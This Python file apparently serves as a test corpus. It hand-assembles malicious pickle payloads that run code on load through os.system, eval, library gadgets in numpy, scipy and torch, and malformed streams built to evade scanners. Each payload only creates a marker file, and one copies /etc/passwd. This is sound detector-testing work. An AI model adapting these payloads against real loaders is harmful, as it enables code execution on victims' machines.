"""Pickles that do harm when loaded (they make one marker file), each written opcode by opcode, and the loader that proves it."""

from __future__ import annotations

import marshal
import pickle
import struct
from collections.abc import Callable

Payload = Callable[[str], bytes]


def text(value: str) -> bytes:
    """A str."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(value: bytes) -> bytes:
    """Some bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, dotted: str) -> bytes:
    """A global, also a dotted one."""
    return text(module) + text(dotted) + b"\x93"


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def lst(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def dct(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"d"


def call(what: bytes, *args: bytes) -> bytes:
    return what + tup(*args) + b"R"


def whole(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def simple(module: str, dotted: str, *args: str | bytes | int) -> Payload:
    """A call of a global; `M` in a text is the marker."""

    def build(marker: str) -> bytes:
        return whole(call(name(module, dotted), *(_argument(item, marker) for item in args)))

    return build


def _argument(item: str | bytes | int, marker: str) -> bytes:
    if isinstance(item, bytes):
        return item
    return text(item.replace("M", marker)) if isinstance(item, str) else b"J" + struct.pack("<i", item)


def touch(marker: str) -> bytes:
    return text(f"touch {marker}")


def opened(marker: str) -> str:
    return f"open({marker!r},'w').close()"


SYSTEM = name("os", "system")

CALLS: dict[str, Payload] = {
    "os.system": simple("os", "system", "touch M"),
    "posix.system": simple("posix", "system", "touch M"),
    "os.popen": simple("os", "popen", "touch M; sleep 0.2"),
    "os.mkdir": simple("os", "mkdir", "M"),
    "os.makedirs": simple("os", "makedirs", "M"),
    "os.open": simple("os", "open", "M", 64 | 1),
    "os.symlink": simple("os", "symlink", "/dev/null", "M"),
    "os.mkfifo": simple("os", "mkfifo", "M"),
    "subprocess.getoutput": simple("subprocess", "getoutput", "touch M"),
    "subprocess.call": lambda m: whole(call(name("subprocess", "call"), lst(text("touch"), text(m)))),
    "subprocess.check_output": lambda m: whole(call(name("subprocess", "check_output"), lst(text("touch"), text(m)))),
    "pty.spawn": lambda m: whole(call(name("pty", "spawn"), lst(text("touch"), text(m)))),
    "exec": lambda m: whole(call(name("builtins", "exec"), text(opened(m)))),
    "eval": lambda m: whole(call(name("builtins", "eval"), text(opened(m)))),
    "compile": lambda m: whole(call(name("builtins", "exec"), call(name("builtins", "compile"), text(opened(m)), text("x"), text("exec")))),
    "open": simple("builtins", "open", "M", "w"),
    "io.open": simple("io", "open", "M", "w"),
    "io.FileIO": simple("_io", "FileIO", "M", "w"),
    "Path.touch": lambda m: whole(call(name("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), text(m)))),
    "shutil.copy": simple("shutil", "copy", "/etc/passwd", "M"),
    "pickle.loads": lambda m: whole(call(name("pickle", "loads"), data(CALLS["os.system"](m)))),
    "_pickle.loads": lambda m: whole(call(name("_pickle", "loads"), data(CALLS["os.system"](m)))),
    "marshal": lambda m: whole(
        call(
            call(
                name("types", "FunctionType"),
                call(name("marshal", "loads"), data(marshal.dumps(compile(opened(m), "x", "exec")))),
                dct(text("__builtins__"), name("builtins", "__dict__")),
            )
        )
    ),
    "logging.FileHandler": simple("logging", "FileHandler", "M"),
    "logging.handlers": simple("logging.handlers", "RotatingFileHandler", "M"),
    "sqlite3.connect": lambda m: whole(
        call(name("sqlite3", "Connection.execute"), call(name("sqlite3", "connect"), text(m)), text("create table a(b)"))
    ),
    "zipfile": simple("zipfile", "ZipFile", "M", "w"),
    "tarfile": simple("tarfile", "open", "M", "w"),
    "gzip": simple("gzip", "open", "M", "w"),
    "bz2": simple("bz2", "open", "M", "w"),
    "lzma": simple("lzma", "open", "M", "w"),
    "mailbox": simple("mailbox", "Maildir", "M"),
    "timeit": lambda m: whole(call(name("timeit", "timeit"), text(opened(m)), text("pass"), name("time", "perf_counter"), b"K\x01")),
    "cProfile.run": lambda m: whole(call(name("cProfile", "run"), text(opened(m)))),
    "profile.run": lambda m: whole(call(name("profile", "run"), text(opened(m)))),
    "bdb": lambda m: whole(call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), text(opened(m)))),
    "code": lambda m: whole(
        call(name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), text(opened(m)))
    ),
    "pydoc.pipepager": simple("pydoc", "pipepager", "x", "touch M"),
    "imaplib": simple("imaplib", "IMAP4_stream", "touch M; sleep 0.2"),
    "ctypes": lambda m: whole(
        call(call(name("builtins", "getattr"), call(name("ctypes", "CDLL"), b"N"), text("system")), data(f"touch {m}".encode()))
    ),
    "py_compile": simple("py_compile", "compile", __file__, "M"),
    "atexit": lambda m: whole(call(name("atexit", "register"), SYSTEM, touch(m))),
    "thread": lambda m: whole(call(name("_thread", "start_new_thread"), SYSTEM, tup(touch(m)))),
    "signal": lambda m: whole(call(name("threading", "Thread.run"), call(name("threading", "Thread"), b"N", SYSTEM, b"N", tup(touch(m))))),
    "runpy": lambda m: whole(
        call(name("runpy", "_run_code"), call(name("builtins", "compile"), text(opened(m)), text("x"), text("exec")), dct())
    ),
    "pkgutil.resolve_name": lambda m: whole(call(call(name("pkgutil", "resolve_name"), text("os:system")), touch(m))),
    "__import__": lambda m: whole(
        call(call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")), text("system")), touch(m))
    ),
    "module attribute": lambda m: whole(call(name("shutil", "os.system"), touch(m))),
    "Popen": lambda m: whole(call(name("subprocess", "Popen.wait"), call(name("subprocess", "Popen"), lst(text("touch"), text(m))))),
}
"""Direct calls and gadgets of the standard library."""

INDIRECT: dict[str, Payload] = {
    "partial": lambda m: whole(call(call(name("functools", "partial"), SYSTEM, touch(m)))),
    "partial by state": lambda m: whole(
        call(name("functools", "partial"), name("builtins", "int")) + tup(SYSTEM, tup(touch(m)), dct(), b"N") + b"b" + b")R"
    ),
    "methodcaller": lambda m: whole(call(call(name("operator", "methodcaller"), text("system"), touch(m)), name("shutil", "os"))),
    "attrgetter": lambda m: whole(call(call(call(name("operator", "attrgetter"), text("system")), name("shutil", "os")), touch(m))),
    "getattr": lambda m: whole(call(call(name("builtins", "getattr"), name("shutil", "os"), text("system")), touch(m))),
    "map": lambda m: whole(call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, lst(touch(m))))),
    "filter": lambda m: whole(call(name("builtins", "set"), call(name("builtins", "filter"), SYSTEM, lst(touch(m))))),
    "starmap": lambda m: whole(call(name("collections", "deque"), call(name("itertools", "starmap"), SYSTEM, lst(tup(touch(m)))))),
    "reduce": lambda m: whole(call(name("functools", "reduce"), name("os", "mkdir"), lst(text(m), b"M\xff\x01"))),
    "sorted": lambda m: whole(call(name("builtins", "any"), call(name("builtins", "map"), SYSTEM, lst(touch(m))))),
    "iter": lambda m: whole(
        call(name("builtins", "next"), call(name("builtins", "iter"), call(name("functools", "partial"), SYSTEM, touch(m)), b"K\x05"))
    ),
    "defaultdict": lambda m: whole(
        call(
            name("operator", "getitem"),
            call(name("collections", "defaultdict"), call(name("functools", "partial"), SYSTEM, touch(m))),
            b"N",
        )
    ),
    "instance attribute": lambda m: whole(
        name("collections", "UserDict") + b")\x81" + dct(text("__setstate__"), SYSTEM) + b"b" + touch(m) + b"b"
    ),
    "class attribute": lambda m: whole(
        name("collections", "UserDict")
        + tup(b"N", dct(text("__setstate__"), SYSTEM))
        + b"b0"
        + name("collections", "UserDict")
        + b")\x81"
        + touch(m)
        + b"b"
    ),
    "append attribute": lambda m: whole(name("types", "SimpleNamespace") + b")\x81" + dct(text("append"), SYSTEM) + b"b" + touch(m) + b"a"),
    "extend attribute": lambda m: whole(
        name("types", "SimpleNamespace")
        + b")\x81"
        + dct(text("extend"), name("subprocess", "call"))
        + b"b("
        + text("touch")
        + text(m)
        + b"e"
    ),
    "add attribute": lambda m: whole(name("types", "SimpleNamespace") + b")\x81" + dct(text("add"), SYSTEM) + b"b(" + touch(m) + b"\x90"),
    "computed attribute": lambda m: whole(
        name("types", "SimpleNamespace")
        + b")\x81"
        + dct(call(name("codecs", "decode"), text("__frgfgngr__"), text("rot13")), SYSTEM)
        + b"b"
        + touch(m)
        + b"b"
    ),
    "reconstructor with a base": lambda m: whole(
        call(name("copyreg", "_reconstructor"), name("logging", "FileHandler"), name("logging", "FileHandler"), text(m))
    ).replace(b"\x80\x04", b"\x80\x04", 1),
    "computed name": lambda m: whole(call(name("builtins", "str"), text("os")) + text("system") + b"\x93" + tup(touch(m)) + b"R"),
    "items of a module": lambda m: whole(
        name("builtins", "__dict__") + text("len") + SYSTEM + b"s0" + call(name("builtins", "len"), touch(m))
    ),
}
"""A dangerous function reached by another way than a call that names it."""

STREAMS: dict[str, Payload] = {
    "INT in hex": lambda m: b"I0x10\n0" + CALLS["os.system"](m),
    "LONG without L": lambda m: b"L0x10\n0" + CALLS["os.system"](m),
    "protocol 0": lambda m: b"cos\nsystem\n(S'touch " + m.encode() + b"'\ntR.",
    "STRING with escapes": lambda m: b"\x80\x04S'\\x6f\\163'\nS'sys\\x74em'\n\x93(S'touch " + m.encode() + b"'\ntR.",
    "UNICODE with escapes": lambda m: b"\x80\x04V\\u006fs\nVsystem\n\x93(Vtouch " + m.encode() + b"\ntR.",
    "BINSTRING names": lambda m: b"\x80\x04U\x02osU\x06system\x93(" + touch(m) + b"tR.",
    "INST": lambda m: b"(" + touch(m) + b"ios\nsystem\n.",
    "OBJ": lambda m: b"(cos\nsystem\n" + touch(m) + b"o.",
    "Python 2 names": lambda m: b"\x80\x02c__builtin__\neval\n(" + text(opened(m)) + b"tR.",
    "Python 2 module": lambda m: b"\x80\x02ccommands\ngetoutput\n(" + touch(m) + b"tR.",
    "names from the memo": lambda m: whole(text("os") + b"q\xc80" + text("system") + b"p77777\n0h\xc8g77777\n\x93" + tup(touch(m)) + b"R"),
    "memo after POP": lambda m: whole(text("system") + b"\x94" + b"0" + text("os") + b"\x940h\x01h\x00\x93" + tup(touch(m)) + b"R"),
    "memo overwritten": lambda m: whole(
        text("math") + b"q\x050" + text("os") + b"q\x050h\x05" + text("system") + b"\x93" + tup(touch(m)) + b"R"
    ),
    "index with a zero byte": lambda m: whole(text("os") + b"p1_0\x00 \n0h\n" + text("system") + b"\x93" + tup(touch(m)) + b"R"),
    "after POP_MARK": lambda m: whole(b"(K\x01K\x021" + call(SYSTEM, touch(m))),
    "DUP": lambda m: whole(SYSTEM + b"2" + tup(touch(m)) + b"R"),
    "frames that lie": lambda m: b"\x80\x04\x95" + struct.pack("<Q", 3) + b"N0N0" + call(SYSTEM, touch(m)) + b".",
    "unknown protocol later": lambda m: whole(call(SYSTEM, touch(m)) + b"\x80\x03"),
    "truncated behind the payload": lambda m: b"\x80\x04" + call(SYSTEM, touch(m)),
    "broken behind the payload": lambda m: b"\x80\x04" + call(SYSTEM, touch(m)) + b"\xff\xff\xff",
    "straddled frame": lambda m: _straddle(call(SYSTEM, touch(m)) + b"."),
    "straddled big frame": lambda m: _straddle(call(SYSTEM, touch(m)) + b".", 140_000),
    "dotted name": lambda m: whole(call(name("posixpath", "os.system"), touch(m))),
}
"""Streams that readers of pickles have been led astray by."""


def _straddle(payload: bytes, pad: int = 60) -> bytes:
    """A frame whose last bytes begin a long constant: the loader in C forgets them and goes on behind the frame."""
    inside = b"N0" * (pad // 2) + b"\x8c\xc8abc"
    hidden = b"x" * 200 + b"0" + payload
    return b"\x80\x04\x95" + struct.pack("<Q", len(inside)) + inside + hidden.ljust(400, b".")


LIBRARIES: dict[str, Payload] = {
    "numpy.memmap": simple("numpy", "memmap", "M", "u1", "w+", 0, b"K\x01\x85"),
    "numpy.save": simple("numpy", "save", "M.npy", b"K\x01"),
    "numpy.savetxt": lambda m: whole(call(name("numpy", "savetxt"), text(m), lst(b"K\x01"))),
    "numpy.open_memmap": simple("numpy.lib.format", "open_memmap", "M", "w+", "u1", b"K\x01\x85"),
    "numpy.runstring": lambda m: whole(call(name("numpy.testing._private.utils", "runstring"), text(opened(m)), dct())),
    "numpy.vectorize": lambda m: whole(call(call(name("numpy", "vectorize"), SYSTEM, lst(text("O"))), touch(m))),
    "numpy.apply": lambda m: whole(
        call(name("numpy", "apply_along_axis"), name("subprocess", "call"), b"K\x00", lst(text("touch"), text(m)))
    ),
    "numpy generator": lambda m: whole(call(name("numpy.random._pickle", "__randomstate_ctor"), touch(m), SYSTEM)),
    "joblib.dump": simple("joblib", "dump", b"K\x01", "M"),
    "joblib.load": lambda m: whole(call(name("joblib", "load"), call(name("_io", "BytesIO"), data(CALLS["os.system"](m))))),
    "scipy distribution": lambda m: whole(
        name("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81"
        + dct(text("_parse_arg_template"), text(f"import os;os.mkdir({m!r})"))
        + b"b"
    ),
    "numpy.memmap without a constructor": lambda m: whole(
        name("numpy", "memmap") + tup(text(m), text("u1"), text("w+"), b"K\x00", b"K\x01\x85") + b"\x81"
    ),
    "numpy.memmap behind a rebuilt one": lambda m: whole(
        name("numpy", "memmap")
        + b"\x940"
        + call(name("numpy._core.multiarray", "_reconstruct"), b"h\x00", b"K\x00\x85", data(b"b"))
        + b"0h\x00"
        + tup(text(m), text("u1"), text("w+"), b"K\x00", b"K\x01\x85")
        + b"R"
    ),
    "pandas.read_pickle": lambda m: whole(call(name("pandas", "read_pickle"), call(name("_io", "BytesIO"), data(CALLS["os.system"](m))))),
    "pandas.to_csv": lambda m: whole(call(name("pandas", "DataFrame.to_csv"), call(name("pandas", "DataFrame"), lst(b"K\x01")), text(m))),
    "sklearn joblib": lambda m: whole(call(name("joblib.numpy_pickle", "dump"), b"K\x01", text(m))),
    "joblib.Memory": simple("joblib.memory", "Memory", "M"),
    "generic alias": lambda m: whole(call(call(name("types", "GenericAlias"), SYSTEM, b")"), touch(m))),
    "cloudpickle function": lambda m: _cloud(m),
}
"""Gadgets of numpy, scipy, pandas, joblib and cloudpickle."""


def parser(shapes: str = "", scale: str = "loc=0, scale=1", out: str = "loc, scale", behind: str = "") -> str:
    """The text that scipy makes for a distribution, with something else behind it."""
    return (
        f"\ndef _parse_args(self, {shapes} {scale}):\n    return ({shapes}), {out}\n"
        f"\ndef _parse_args_rvs(self, {shapes} {scale}, size=None):\n    return self._argcheck_rvs({shapes} {out}, size=size)\n"
        f"\ndef _parse_args_stats(self, {shapes} {scale}, moments='mv'):\n    return ({shapes}), {out}, moments\n{behind}"
    )


def distribution(*states: bytes, cls: str = "norm_gen") -> bytes:
    """A distribution into which states are put one after the other."""
    return whole(name("scipy.stats._continuous_distns", cls) + b")\x81" + b"".join(state + b"b" for state in states))


def state(value: bytes, *more: bytes) -> bytes:
    """A state with that as the text to be run, and what else a distribution needs."""
    return dct(text("_parse_arg_template"), value, text("numargs"), b"K\x00", text("moment_type"), b"K\x01", *more)


def made(marker: str) -> str:
    return f"import os;os.mkdir({marker!r})"


PARSER = text("_parse_arg_template")

DISTRIBUTIONS: dict[str, Payload] = {
    "other text": lambda m: distribution(state(text(made(m)))),
    "text behind": lambda m: distribution(state(text(parser(behind=made(m))))),
    "a default": lambda m: distribution(state(text(parser(f"a=__import__('os').mkdir({m!r}), ")))),
    "an annotation": lambda m: distribution(state(text(parser(scale=f"loc: __import__('os').mkdir({m!r})=0, scale=1")))),
    "a carriage return": lambda m: distribution(state(text(parser(behind=f"\r{made(m)}\n")))),
    "another head": lambda m: distribution(state(text(parser("a, ").replace("(self, a", f"(self, a=__import__('os').mkdir({m!r})")))),
    "text of protocol 0": lambda m: distribution(state(b"V" + made(m).encode() + b"\n")),
    "a string of Python 2": lambda m: distribution(state(b"S" + repr(made(m)).encode() + b"\n")),
    "bytes": lambda m: distribution(state(data(made(m).encode()))),
    "computed text": lambda m: distribution(state(call(name("builtins", "str"), text(made(m))))),
    "a kind of str": lambda m: distribution(state(call(name("numpy", "str_"), text(made(m))))),
    "a kind of str without its constructor": lambda m: distribution(state(name("builtins", "str") + tup(text(made(m))) + b"\x81")),
    "pairs in a tuple": lambda m: distribution(tup(tup(PARSER, text(made(m))))),
    "pairs in a list": lambda m: distribution(lst(tup(PARSER, text(made(m))))),
    "keys of a dict as a pair": lambda m: distribution(tup(dct(PARSER, b"N", text(made(m)), b"N"), text("ab"))),
    "an ordered dict": lambda m: distribution(call(name("collections", "OrderedDict"), lst(tup(PARSER, text(made(m)))))),
    "items of an ordered dict": lambda m: distribution(name("collections", "OrderedDict") + b")R" + PARSER + text(made(m)) + b"s"),
    "another mapping": lambda m: distribution(
        name("collections", "UserDict") + b")\x81" + dct(text("data"), dct(PARSER, text(made(m)))) + b"b"
    ),
    "a computed key": lambda m: distribution(dct(call(name("numpy", "str_"), PARSER), text(made(m)))),
    "set twice": lambda m: distribution(dct(PARSER, text(parser()), PARSER, text(made(m)))),
    "a second state": lambda m: distribution(state(text(parser())), dct(PARSER, text(made(m)))),
    "a state changed later": lambda m: distribution(state(text(parser())) + b"\x94", b"h\x00" + PARSER + text(made(m)) + b"s"),
    "another class": lambda m: distribution(state(text(made(m))), cls="rv_histogram"),
    "by copyreg": lambda m: whole(
        call(name("copyreg", "_reconstructor"), name("scipy.stats._discrete_distns", "randint_gen"), name("builtins", "object"), b"N")
        + dct(PARSER, text(made(m)))
        + b"b"
    ),
    "what attaches is replaced": lambda m: distribution(
        dct(text("_attach_methods"), _partial(name("os", "mkdir"), text(m))),
    ),
    "what is executed is replaced": lambda m: distribution(
        state(text(parser()), text("_attach_argparser_methods"), _partial(name("os", "mkdir"), text(m)))
    ),
    "a vectorized function": lambda m: whole(
        name("numpy", "vectorize")
        + b")\x81"
        + dct(
            text("pyfunc"), name("os", "mkdir"), text("signature"), b"N", text("cache"), b"\x89", text("otypes"), text("O"),
            text("excluded"), call(name("builtins", "set")), text("_ufunc"), dct(),
        )
        + b"b"
        + tup(text(m))
        + b"R"
    ),
}  # fmt: skip
"""Texts and functions that a distribution of scipy runs when its state is put in."""

TORCH: dict[str, Payload] = {
    "storage bytes": lambda m: whole(call(name("torch.storage", "_load_from_bytes"), data(_torch_legacy(m)))),
    "storage bytes by a partial": lambda m: whole(
        call(name("functools", "partial"), name("builtins", "int"))
        + tup(name("torch.storage", "_load_from_bytes"), tup(data(_torch_legacy(m))), dct(), b"N")
        + b"b"
        + b")R"
    ),
    "storage bytes by a generator": lambda m: whole(
        call(name("numpy.random._pickle", "__randomstate_ctor"), data(_torch_legacy(m)), name("torch.storage", "_load_from_bytes"))
    ),
    "rebuild a type": lambda m: whole(
        call(name("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, name("torch", "Tensor"), tup(touch(m)), dct())
    ),
    "torch.save": simple("torch", "save", b"K\x01", "M"),
    "optimiser defaults": lambda m: whole(
        name("torch.optim.sgd", "SGD")
        + b")\x81"
        + dct(
            text("defaults"),
            name("types", "SimpleNamespace")
            + b")\x81"
            + dct(text("setdefault"), _partial(name("logging", "FileHandler"), text(m), text("w")))
            + b"b",
            text("param_groups"),
            lst(),
        )
        + b"b"
    ),
}
"""Gadgets of torch."""


def _partial(function: bytes, *args: bytes) -> bytes:
    """A partial that ignores nothing: its function is set by its state, as pickles of partials do."""
    return call(name("functools", "partial"), name("builtins", "int")) + tup(function, tup(*args), dct(), b"N") + b"b"


def _torch_legacy(marker: str) -> bytes:
    """A file of torch's old format whose third pickle does harm."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    return magic + pickle.dumps(1001, 2) + CALLS["os.system"](marker) + pickle.dumps(0, 2) + pickle.dumps([], 2)


def _cloud(marker: str) -> bytes:
    import cloudpickle

    class Payload:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return (lambda path: open(path, "w").close()), (marker,)

    return cloudpickle.dumps(Payload())
